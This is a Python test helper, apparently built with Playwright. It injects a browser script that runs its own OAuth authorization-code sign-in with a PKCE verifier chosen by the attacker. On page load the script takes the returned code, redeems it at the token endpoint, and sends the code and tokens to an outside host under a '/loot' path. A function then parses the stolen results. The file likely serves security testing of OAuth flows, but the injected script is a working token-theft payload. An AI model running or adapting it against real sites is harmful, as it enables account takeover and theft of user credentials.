"""A script that an attacker runs in the page: it signs in for itself, with a verifier of its own."""

import base64
import hashlib
import json
from dataclasses import dataclass
from urllib.parse import parse_qs, urlencode, urlsplit

from playwright.sync_api import BrowserContext

VERIFIER = "of-the-attackers-own-choosing-0123456789-0123456789"
STATE = "of-the-attacker"
_CHALLENGE = base64.urlsafe_b64encode(hashlib.sha256(VERIFIER.encode()).digest()).rstrip(b"=")
_SCRIPT = """(() => {
  const given = JSON.parse(%s);
  const query = new URLSearchParams(location.search);
  if (query.get("state") !== given.state || !query.has("code")) return;
  const leave = (got) => {
    const loot = new URLSearchParams({ code: query.get("code"), got });
    location.href = `${given.away}/loot?${loot}`;
  };
  const body = new URLSearchParams({
    grant_type: "authorization_code", client_id: given.client_id, code: query.get("code"),
    code_verifier: given.verifier, redirect_uri: location.origin + location.pathname,
  });
  fetch(given.token_endpoint, { method: "POST", body }).then(
    (answer) => answer.text().then(leave), (error) => leave(String(error)));
})();"""


@dataclass(frozen=True)
class OwnSignIn:
    """A code flow that the script starts; it runs with every page of the browser from then on."""

    client_id: str
    redirect_uri: str
    issuer_url: str

    @property
    def address(self) -> str:
        """Where the script sends the browser, which is signed in at the issuer."""
        asked = {
            "response_type": "code",
            "client_id": self.client_id,
            "redirect_uri": self.redirect_uri,
            "scope": "openid email",
            "state": STATE,
            "code_challenge": _CHALLENGE.decode(),
            "code_challenge_method": "S256",
        }
        return f"{self.issuer_url}/oauth2/authorize?{urlencode(asked)}"

    def inject(self, context: BrowserContext, away: str) -> None:
        given = {
            "state": STATE,
            "verifier": VERIFIER,
            "client_id": self.client_id,
            "token_endpoint": f"{self.issuer_url}/oauth2/token",
            "away": away,
        }
        context.add_init_script(_SCRIPT % json.dumps(json.dumps(given)))


def looted(received: list[str]) -> list[dict[str, str]]:
    """What the script has sent home."""
    queries = [urlsplit(line.partition(" ")[0]).query for line in received if "/loot?" in line]
    return [{name: values[0] for name, values in parse_qs(query).items()} for query in queries]
